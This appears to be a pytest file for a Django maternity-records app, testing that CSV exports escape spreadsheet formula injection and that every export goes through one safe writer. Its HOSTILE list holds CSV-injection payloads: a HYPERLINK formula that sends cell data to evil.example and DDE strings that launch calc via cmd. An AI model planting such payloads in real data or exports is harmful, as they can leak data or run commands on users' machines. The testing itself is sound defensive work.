"""Every CSV export is written by `maternity.http.csv_export`, which neutralises cells a spreadsheet would run
as formulas (OWASP "CSV Injection"): text that starts with =, +, -, @, a tab or a carriage return gets a
single quote in front, every text cell is quoted, and numbers the code writes stay numbers."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone

from maternity.http.csv_export import FORMULA_STARTS, csv_response, csv_safe_cell
from maternity.reads import reports
from maternity.rules import data_quality
from maternity.web.views import reports as views

from .factories import make_pregnancy

PAGES = ["/reports/", "/reports/data-quality/"]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EXPORT_LINK = re.compile(r"[?&](?:amp;)?export=([a-z-]+)\.csv")


def cells(response) -> list[list]:
    """The rows as a reader that treats every unquoted cell as a number reads them: it fails on an
    unquoted text cell, so reading at all shows the export came through the one writer."""
    return list(csv.reader(io.StringIO(response.content.decode()), quoting=csv.QUOTE_NONNUMERIC))


def exports_linked_from(client, page: str) -> set[str]:
    return set(EXPORT_LINK.findall(client.get(page).content.decode()))


def test_a_cell_that_would_start_a_formula_gets_a_quote_in_front():
    for text in HOSTILE:
        assert csv_safe_cell(text) == f"'{text}"
    assert csv_safe_cell("Astrid Berg") == "Astrid Berg"
    assert csv_safe_cell("Berg-Hansen, Astrid") == "Berg-Hansen, Astrid"  # not at the start
    assert csv_safe_cell(None) == ""


def test_numbers_the_code_writes_stay_numbers_even_when_negative_but_text_that_looks_like_one_is_escaped():
    assert csv_safe_cell(-3) == -3
    assert csv_safe_cell(-2.5) == -2.5
    assert csv_safe_cell(Decimal("-1.25")) == Decimal("-1.25")
    assert csv_safe_cell("-3") == "'-3"
    response = csv_response(filename="x.csv", header=["Text", "Number"], rows=[["-3", -3], ["=1", 1.5]])
    assert response.content.decode().splitlines() == ['"Text","Number"', '"\'-3",-3', '"\'=1",1.5']


def test_an_escaped_cell_with_commas_quotes_and_line_breaks_stays_one_cell():
    text = '=1+1,"two"\n=3'
    response = csv_response(filename="x.csv", header=["Name"], rows=[[text]])
    assert cells(response) == [["Name"], [f"'{text}"]]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_in_the_data_quality_export_is_written_as_harmless_text(web_a, actor_a, name):
    record = make_pregnancy(actor_a, name=name)
    response = web_a.get("/reports/data-quality/", {"export": "records.csv"})
    assert response.status_code == 200
    header, row = cells(response)
    assert header[:3] == ["Record", "Name", "National ID"]
    assert row[:3] == [str(record.pk), f"'{name}", record.person.identifier_value]


def test_every_export_the_pages_offer_goes_through_the_one_safe_writer(web_a, actor_a, location_a):
    for name in HOSTILE:
        make_pregnancy(actor_a, name=name)
    today = timezone.localdate()
    report = reports.location_report(location_a, today=today, period=reports.Period.last_12_months(today))
    quality = data_quality.location_quality(location_a, today=today, sort=data_quality.DEFAULT_SORT)
    exportable = {
        "/reports/": set(views.report_tables(report)),
        "/reports/data-quality/": set(views.quality_tables(*quality)),
    }
    offered = {page: exports_linked_from(web_a, page) for page in PAGES}
    assert offered == exportable  # every table a view can export is offered, so the walk covers them all
    for page, tables in offered.items():
        for table in tables:
            response = web_a.get(page, {"export": f"{table}.csv"})
            assert response.status_code == 200, (page, table)
            assert response["Content-Type"] == "text/csv; charset=utf-8"
            for row in cells(response):
                for cell in row:
                    assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), (
                        page,
                        table,
                        cell,
                    )


def test_no_other_module_writes_csv():
    """A new export (an admin action, a report) must use maternity.http.csv_export, not the csv module."""
    root = Path(settings.BASE_DIR)
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\b|^\s*(import csv|from csv import)", re.MULTILINE)
    offenders = [
        str(path.relative_to(root))
        for app in ("maternity", "spine", "portal")
        for path in (root / app).rglob("*.py")
        if "tests" not in path.parts and writers.search(path.read_text())
    ]
    assert offenders == ["maternity/http/csv_export.py"]
